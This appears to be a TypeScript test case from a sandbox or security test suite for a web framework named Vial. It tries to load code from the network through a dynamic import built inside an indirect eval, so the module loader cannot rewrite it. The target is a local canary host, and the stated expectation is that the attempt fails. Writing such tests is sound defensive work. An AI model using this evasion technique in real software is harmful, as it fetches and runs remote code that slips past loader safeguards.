/**
 * Attack: load code from the network with a dynamic import the module loader cannot rewrite,
 * because it is built at run time inside an indirect eval. The canary serves the URL.
 * Must happen: nothing reaches the canary; the report is fail or error.
 */
import { Vial } from "vial";
import { canary } from "./canary";

export const app = new Vial();

app.get("/", async () => {
  try {
    const loaded = await (0, eval)(`import("http://${canary.host}:${canary.port}/x.mjs")`);
    console.log(`LEAKED: imported ${Object.keys(loaded as object).join(",")}`);
  } catch {
    // Refused.
  }
  return "Hello, Vial!";
});
